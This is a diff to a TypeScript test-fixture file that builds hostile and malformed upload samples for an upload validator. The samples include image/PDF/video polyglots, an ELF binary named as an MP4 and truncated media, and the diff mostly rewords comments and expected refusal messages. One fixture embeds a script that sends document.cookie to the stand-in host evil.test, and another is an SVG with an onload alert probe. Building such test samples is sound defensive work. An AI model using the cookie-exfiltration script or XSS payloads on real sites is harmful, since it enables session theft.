@@ -2,11 +2,11 @@ import { deflateSync } from 'node:zlib'
 import { ascii, u8, u16, u16le, u32 } from '../media/bytes.ts'
 import { aGif, aJpeg, anMp4, aPng, aWebp, box, pngChunk } from '../media/samples.ts'
 
-/** A file whose name says what must happen to it; `because` is in the reason of a refusal. */
+/** A file whose name states the expected outcome. `because` is part of the refusal's reason. */
 export type BadFile = { name: `${'refused' | 'accepted'}-${string}`; content: Buffer; because?: string }
 
 const page = ascii('<!doctype html><html><script>fetch("//evil.test/"+document.cookie)</script></html>')
-/** The end record of an empty archive, by which unpackers find one behind anything. */
+/** The end record of an empty ZIP archive, which lets unpackers find an archive behind any other content. */
 const archive = Buffer.concat([ascii('PK\x05\x06'), Buffer.alloc(18)])
 const program = Buffer.concat([ascii('\x7fELF'), u8(2, 1, 1), Buffer.alloc(57)])
 const svg = ascii('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="9" height="9"/>')
@@ -18,7 +18,7 @@ const renamed = (file: Buffer, from: string, to: string) => patch(file, file.ind
 const typed = (brand: string) => behind(box('ftyp', ascii(brand), Buffer.alloc(4), ascii(brand)), box('meta', Buffer.alloc(64)))
 const wide = behind(u16(65_000), u16(65_000))
 
-/** A PNG of few bytes with as many pixels as are asked for. */
+/** A small PNG file with the given number of pixels. */
 const blank = (width: number, height: number) => aPng({ width, height })
 
 const polyglots: BadFile[] = [
@@ -32,7 +32,7 @@ const polyglots: BadFile[] = [
   { name: 'refused-pdf-behind-picture.jpg', content: behind(aJpeg(), ascii('%PDF-1.7 evil')), because: 'hidden' },
   { name: 'refused-film-behind-picture.png', content: behind(aPng(), anMp4({ bytes: 9_000 })), because: 'hidden' },
   { name: 'refused-page-that-begins-like-a-gif.gif', content: behind(ascii('GIF89a/*'), page), because: 'damaged' },
-  { name: 'refused-page-that-begins-like-a-jpeg.jpg', content: behind(u8(0xff, 0xd8, 0xff, 0xe0), page), because: 'cut off' },
+  { name: 'refused-page-that-begins-like-a-jpeg.jpg', content: behind(u8(0xff, 0xd8, 0xff, 0xe0), page), because: 'incomplete' },
 ]
 
 const bombs: BadFile[] = [
@@ -65,23 +65,23 @@ const others: BadFile[] = [
   { name: 'refused-page-named-as-picture.png', content: page, because: 'web page' },
   { name: 'refused-text-named-as-picture.gif', content: ascii('Only words.'), because: 'text' },
   { name: 'refused-pdf-named-as-picture.png', content: ascii('%PDF-1.7\n\x00\x01'), because: 'PDF' },
-  { name: 'refused-program-named-as-film.mp4', content: program, because: 'no picture or video' },
-  { name: 'refused-heic-named-as-jpeg.jpg', content: typed('heic'), because: 'Save the picture as a JPEG' },
-  { name: 'refused-avif-without-a-picture.jpg', content: typed('avif'), because: 'cut off' },
-  { name: 'refused-moving.avif', content: typed('avis'), because: 'AVIF images that move' },
+  { name: 'refused-program-named-as-film.mp4', content: program, because: 'support this type of file' },
+  { name: 'refused-heic-named-as-jpeg.jpg', content: typed('heic'), because: 'Save it as a JPEG' },
+  { name: 'refused-avif-without-a-picture.jpg', content: typed('avif'), because: 'incomplete' },
+  { name: 'refused-moving.avif', content: typed('avis'), because: 'Animated AVIF images' },
   { name: 'refused-tiff-named-as-picture.png', content: behind(ascii('II*\0'), Buffer.alloc(60)), because: 'JPEG or PNG' },
   { name: 'refused-webm-named-as-mp4.mp4', content: behind(u8(0x1a, 0x45, 0xdf, 0xa3), Buffer.alloc(60)), because: 'Convert it to MP4' },
   { name: 'refused-moving.webp', content: aWebp({ canvas: { flags: 0x02 } }), because: 'GIF or an MP4' },
   {
     name: 'refused-moving.png',
     content: aPng({ extra: [pngChunk('acTL', behind(u32(3), u32(0)))] }),
-    because: 'PNG images that move',
+    because: 'Animated PNG images',
   },
-  { name: 'refused-truncated.jpg', content: cut(aJpeg(), 2), because: 'cut off' },
-  { name: 'refused-truncated.png', content: cut(aPng(), 12), because: 'cut off' },
-  { name: 'refused-truncated.gif', content: cut(aGif(), 1), because: 'cut off' },
-  { name: 'refused-truncated.webp', content: cut(aWebp(), 3), because: 'cut off' },
-  { name: 'refused-truncated.mp4', content: cut(anMp4({ bytes: 5_000 }), 900), because: 'cut off' },
+  { name: 'refused-truncated.jpg', content: cut(aJpeg(), 2), because: 'incomplete' },
+  { name: 'refused-truncated.png', content: cut(aPng(), 12), because: 'incomplete' },
+  { name: 'refused-truncated.gif', content: cut(aGif(), 1), because: 'incomplete' },
+  { name: 'refused-truncated.webp', content: cut(aWebp(), 3), because: 'incomplete' },
+  { name: 'refused-truncated.mp4', content: cut(anMp4({ bytes: 5_000 }), 900), because: 'incomplete' },
   { name: 'refused-bit-fallen-over.png', content: patch(aPng(), 45, u8(0xfe)), because: 'damaged' },
   { name: 'refused-without-a-frame.gif', content: aGif({ frames: 0 }), because: 'damaged' },
   {
@@ -118,5 +118,5 @@ const good: BadFile[] = [
   { name: 'accepted-hevc.mov', content: anMp4({ brand: 'qt  ', codec: 'hvc1' }) },
 ]
 
-/** Files that people, or those who mean harm, upload. */
+/** Files that people upload, with good or bad intentions. */
 export const badFiles: readonly BadFile[] = [...polyglots, ...bombs, ...others, ...good]
